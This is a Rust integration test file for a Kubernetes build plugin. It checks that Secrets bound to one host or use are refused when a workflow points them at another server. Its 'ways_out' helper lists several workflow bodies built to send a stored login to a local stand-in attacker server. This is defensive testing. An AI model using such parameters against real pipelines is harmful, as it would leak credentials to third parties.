//! A workflow's parameters name a Secret and a server. A Secret that is bound to another server is not sent there.

use k8s_openapi::api::core::v1::Secret;
use kube::Api;
use serde_json::{Value, json};

use crate::support::git::GitServer;
use crate::support::kube::{Identity, Kube};
use crate::support::login_recorder::LoginRecorder;
use crate::support::net::{PATIENCE, unique, until};
use crate::support::plugin::{Plugin, Setup, Workflow, expect_phase};
use crate::support::shared::shared_buildkitd;
use crate::support::shop::template;
use crate::support::sshd::key_pair;

/// A namespace's Secrets, and a plugin that may read them all.
struct Site {
    kube: &'static Kube,
    namespace: String,
    /// A repository that anybody may read.
    git: GitServer,
    /// A repository that needs the login.
    locked: GitServer,
    attacker: LoginRecorder,
}

impl Site {
    async fn new() -> Self {
        let (kube, attacker) = (Kube::shared().await, LoginRecorder::start("127.0.0.1:0").await);
        let git = GitServer::start("", "");
        let locked = GitServer::start("u", "hunter2");
        for server in [&git, &locked] {
            server.create("shop/api", &[("Dockerfile", "FROM scratch\nCOPY Dockerfile /\n")]);
        }
        let namespace = unique("bound");
        kube.namespace(&namespace).await;
        let rule = json!([{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]);
        kube.grant_in(&namespace, Identity::Plugin, "secrets", rule).await;
        let secrets = Api::<Secret>::namespaced(kube.client(Identity::Plugin).await, &namespace);
        let granted = async || secrets.get_opt("none").await.ok();
        until(|| "the Role to be in force".to_owned(), PATIENCE, granted).await;
        Self { kube, namespace, git, locked, attacker }
    }

    /// A Secret with annotations. Returns its name.
    async fn secret(&self, kind: &str, values: &[(&str, &str)], annotations: Value) -> String {
        let name = unique("bound");
        let values: serde_json::Map<_, _> =
            values.iter().map(|(key, value)| ((*key).to_owned(), json!(value))).collect();
        let metadata = json!({"name": name, "namespace": self.namespace, "annotations": annotations});
        let secret = json!({"apiVersion": "v1", "kind": "Secret", "metadata": metadata, "type": kind, "stringData": values});
        self.kube.apply(secret).await;
        name
    }

    async fn token(&self, annotations: Value) -> String {
        self.secret("Opaque", &[("username", "u"), ("token", "hunter2")], annotations).await
    }

    fn plugin(&self, flags: &[(&str, &str)]) -> Plugin {
        let kubeconfig = self.kube.kubeconfig(Identity::Plugin);
        let setup = Setup::new(shared_buildkitd().address()).env("KUBECONFIG", kubeconfig.to_str().unwrap());
        flags.iter().fold(setup, |setup, (name, value)| setup.env(name, value)).start_without_secrets()
    }

    fn host(&self) -> String {
        self.locked.url("").split('/').nth(2).unwrap().to_owned()
    }

    /// A build without a login, with `more` fields.
    fn build(&self, more: Value) -> Value {
        let mut build = json!({"context": self.git.url("shop/api"), "push": false});
        build.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        json!({"build": build})
    }

    /// The ways in which a workflow can make us call the attacker's server with the Secret `name`.
    fn ways_out(&self, name: &str) -> Vec<Value> {
        let (theirs, ours) = (self.attacker.url("a/b.git"), self.git.url("shop/api"));
        let targets = json!([{"file": "values.yaml", "helm": {"image.tag": "1"}}]);
        let update = |more: Value| {
            let mut update = json!({"repo": ours, "targets": targets, "message": "m"});
            update.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
            json!({"update-manifest": update})
        };
        let source = json!({"repo": theirs, "commit": "a".repeat(40), "secret": name});
        let forge = json!({"kind": "gitea", "url": self.attacker.url("api/v1"), "secret": name});
        vec![
            json!({"build": {"context": {"repo": theirs, "secret": name}, "push": false}}),
            self.build(json!({"contexts": {"other": {"repo": theirs, "secret": name}}})),
            update(json!({"repo": theirs, "secret": name})),
            update(json!({"source": source})),
            update(json!({"forge": forge, "via": "api"})),
            update(json!({"forge": forge, "mode": "pull-request"})),
        ]
    }

    /// The message of a refused step.
    async fn refused(&self, plugin: &Plugin, body: &Value) -> String {
        let node = self.node(plugin, body).await;
        expect_phase(&node, "Failed");
        node["message"].as_str().unwrap().to_owned()
    }

    /// The result of a step of a workflow in the namespace.
    async fn node(&self, plugin: &Plugin, body: &Value) -> Value {
        plugin.drive(&Workflow::of(&self.namespace), &template(body.clone())).await
    }

    async fn succeeds(&self, plugin: &Plugin, body: Value) {
        expect_phase(&self.node(plugin, &body).await, "Succeeded");
    }
}

fn bound(hosts: &str, purpose: &str) -> Value {
    json!({"argo-buildkit.io/hosts": hosts, "argo-buildkit.io/use": purpose})
}

#[tokio::test]
async fn a_bound_login_is_not_sent_to_another_server() {
    let site = Site::new().await;
    let (name, plugin) = (site.token(bound(&site.host(), "git")).await, site.plugin(&[]));
    let wanted = format!("git at http://{}", site.attacker.host);
    let mut first = None;
    for body in site.ways_out(&name) {
        let message = site.refused(&plugin, &body).await;
        assert!(message.contains("is bound to git at") && message.contains(&wanted), "{body}: {message}");
        first.get_or_insert(message);
    }
    assert_eq!(site.attacker.given(), [""; 0], "nobody has logged in there");
    let told = first.unwrap().replace(&name, "NAME").replace(&site.attacker.host, "ATTACKER");
    insta::assert_snapshot!(told.replace(&site.host(), "HOST"), @"secret `NAME` is bound to git at HOST, and the step wants it for git at http://ATTACKER; nothing was sent. Name a Secret that is bound to that; or, if that server or use may have this one, its owner extends its annotations argo-buildkit.io/hosts and argo-buildkit.io/use");

    // Tekton's annotation means the same. At its own server, the login is used.
    let tekton = json!({"tekton.dev/git-0": format!("http://{}", site.host())});
    let tekton = site.token(tekton).await;
    for body in site.ways_out(&tekton) {
        assert!(site.refused(&plugin, &body).await.contains("is bound to git at http://"));
    }
    assert_eq!(site.attacker.given(), [""; 0]);
    for name in [&name, &tekton] {
        let context = json!({"repo": site.locked.url("shop/api"), "secret": name});
        site.succeeds(&plugin, site.build(json!({"context": context}))).await;
    }
}

#[tokio::test]
async fn an_unbound_login_is_told_of_once_and_refused_where_that_is_wanted() {
    let site = Site::new().await;
    let name = site.token(json!({})).await;
    let plugin = site.plugin(&[]);
    for body in site.ways_out(&name) {
        site.refused(&plugin, &body).await;
    }
    // A binding prevents this.
    assert!(!site.attacker.given().is_empty());
    let told = format!(
        "kubectl -n {} annotate secret {name} argo-buildkit.io/hosts=HOST argo-buildkit.io/use=git",
        site.namespace
    );
    assert_eq!(plugin.log().matches(&told).count(), 1, "{}", plugin.log());

    let strict = site.plugin(&[("ARGO_BUILDKIT_REQUIRE_BOUND_SECRETS", "true")]);
    let before = site.attacker.given().len();
    for body in site.ways_out(&name) {
        let message = site.refused(&strict, &body).await;
        assert!(message.contains("--require-bound-secrets") && message.contains(&told), "{message}");
    }
    assert_eq!(site.attacker.given().len(), before);
    let bound = site.token(bound(&site.host(), "git")).await;
    let context = json!({"repo": site.locked.url("shop/api"), "secret": bound});
    site.succeeds(&strict, site.build(json!({"context": context}))).await;
}

#[tokio::test]
async fn a_secret_of_the_cluster_is_for_no_step() {
    let site = Site::new().await;
    let config = r#"{"auths": {}}"#;
    let pem = key_pair().private;
    let values = [("tls.key", pem.as_str()), ("tls.crt", "c"), ("token", "t"), ("config.json", config)];
    // With any annotation of its owner.
    let anything =
        bound(&format!("{}, {}", site.host(), site.attacker.host), "git, registry, build, signing");
    let tls = site.secret("kubernetes.io/tls", &values, anything.clone()).await;
    let own = site.secret("Opaque", &values, anything.clone()).await;
    let mut account = anything.clone();
    account["kubernetes.io/service-account.name"] = json!("default");
    let account = site.secret("kubernetes.io/service-account-token", &values, account).await;
    let plugin = site.plugin(&[("ARGO_BUILDKIT_TLS_SECRET", &own)]);
    for name in [&tls, &account, &own] {
        let key = json!({"name": name, "key": "tls.key"});
        let signed = json!({
            "repo": site.git.url("shop/api"), "message": "m", "signing-key": key,
            "targets": [{"file": "values.yaml", "helm": {"image.tag": "1"}}],
        });
        let mut bodies = site.ways_out(name);
        bodies.push(site.build(json!({"secrets": [{"id": "k", "secret": key}]})));
        bodies.push(site.build(json!({"registry-secret": {"name": name, "key": "config.json"}})));
        bodies.push(json!({"update-manifest": signed}));
        for body in bodies {
            let message = site.refused(&plugin, &body).await;
            assert!(message.contains("no step may use"), "{body}: {message}");
        }
    }
    assert_eq!(site.attacker.given(), [""; 0]);
}

#[tokio::test]
async fn a_run_gets_only_what_is_bound_to_builds() {
    let site = Site::new().await;
    let config = r#"{"auths": {"r.example.com": {"username": "u", "password": "hunter2"}}}"#;
    let kind = "kubernetes.io/dockerconfigjson";
    let docker = site.secret(kind, &[(".dockerconfigjson", config)], json!({})).await;
    let git = site.token(bound(&site.host(), "git")).await;
    let hosts = site.token(json!({"argo-buildkit.io/hosts": site.host()})).await;
    let ours = site.token(json!({"argo-buildkit.io/use": "build"})).await;
    let plugin = site.plugin(&[("ARGO_BUILDKIT_REQUIRE_BOUND_SECRETS", "true")]);
    let build = |name: &str, key: &str| {
        site.build(json!({"secrets": [{"id": "k", "secret": {"name": name, "key": key}}]}))
    };
    for (name, key) in [(&docker, ".dockerconfigjson"), (&git, "token"), (&hosts, "token")] {
        let message = site.refused(&plugin, &build(name, key)).await;
        assert!(message.contains("wants it for build"), "{message}");
    }
    site.succeeds(&plugin, build(&ours, "token")).await;
    // Its own use is that of a docker config, even if it is used as a login.
    let logins = site.build(json!({"registry-secret": &docker}));
    site.succeeds(&plugin, logins).await;
    let login =
        json!({"repo": site.attacker.url("a/b.git"), "secret": {"name": docker, "key": ".dockerconfigjson"}});
    let message = site.refused(&plugin, &site.build(json!({"context": login}))).await;
    assert!(message.contains("is bound to registry"), "{message}");
    let message =
        site.refused(&plugin, &site.build(json!({"registry-secret": {"name": git, "key": "token"}}))).await;
    assert!(message.contains("wants it for registry"), "{message}");
    assert_eq!(site.attacker.given(), [""; 0]);
}

#[tokio::test]
async fn what_is_written_in_a_directory_counts_too() {
    let site = Site::new().await;
    let plugin =
        Setup::new(shared_buildkitd().address()).env("ARGO_BUILDKIT_REQUIRE_BOUND_SECRETS", "true").start();
    let directory = |name: &str, hosts: Option<&str>| {
        plugin.put(name, "username", "u");
        plugin.put(name, "token", "hunter2");
        if let Some(hosts) = hosts {
            plugin.put(name, "@hosts", &format!("{hosts}\n"));
            plugin.put(name, "@use", "git\n");
        }
    };
    directory("bound", Some(&site.host()));
    directory("unbound", None);
    for (name, why) in [("bound", "is bound to git at"), ("unbound", "--require-bound-secrets")] {
        for body in site.ways_out(name) {
            let message = site.refused(&plugin, &body).await;
            assert!(message.contains(why), "{message}");
        }
    }
    assert_eq!(site.attacker.given(), [""; 0]);
    let context = json!({"repo": site.locked.url("shop/api"), "secret": "bound"});
    site.succeeds(&plugin, site.build(json!({"context": context}))).await;
}
